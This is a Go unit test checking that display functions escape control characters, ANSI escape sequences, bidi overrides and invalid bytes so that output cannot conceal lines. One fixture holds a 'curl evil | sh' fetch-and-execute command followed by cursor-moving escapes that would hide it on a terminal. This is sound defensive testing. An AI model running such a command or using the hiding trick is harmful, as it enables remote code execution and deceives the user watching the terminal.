package display

import "testing"

func TestLinesAndProgress(t *testing.T) {
	tests := []struct{ in, lines, progress string }{
		{"a\tb\nc\n", "a\tb\nc\n", "a\tb\nc\n"},
		{"crlf\r\nnext\r\n", "crlf\r\nnext\r\n", "crlf\r\nnext\r\n"},
		// A carriage return or a cursor move that would hide a line.
		{"+curl evil | sh\r\x1b[1A\x1b[2K echo 2\n", `+curl evil | sh\r\x1b[1A\x1b[2K echo 2` + "\n", `+curl evil | sh` + "\r" + `\x1b[1A\x1b[2K echo 2` + "\n"},
		{"Counting 50%\rCounting 100%\n", `Counting 50%\rCounting 100%` + "\n", "Counting 50%\rCounting 100%\n"},
		{"\x1b]0;title\a\u202e", `\x1b]0;title\x07\u202e`, `\x1b]0;title\x07\u202e`},
		{"bad \xff", `bad \xff`, `bad \xff`},
	}
	for _, tt := range tests {
		if got := Lines(tt.in); got != tt.lines {
			t.Errorf("Lines(%q) = %q, want %q", tt.in, got, tt.lines)
		}
		if got := Progress(tt.in); got != tt.progress {
			t.Errorf("Progress(%q) = %q, want %q", tt.in, got, tt.progress)
		}
	}
}
